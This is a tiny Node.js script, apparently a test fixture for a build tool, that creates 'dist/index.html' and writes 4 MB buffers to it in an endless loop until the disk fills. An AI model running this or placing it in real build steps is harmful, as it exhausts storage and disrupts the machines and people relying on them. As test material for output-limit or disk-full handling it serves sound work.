import { mkdirSync, openSync, writeSync } from 'node:fs'

mkdirSync('dist')
const file = openSync('dist/index.html', 'w')
const lot = Buffer.alloc(4_000_000, 1)
for (;;) writeSync(file, lot)
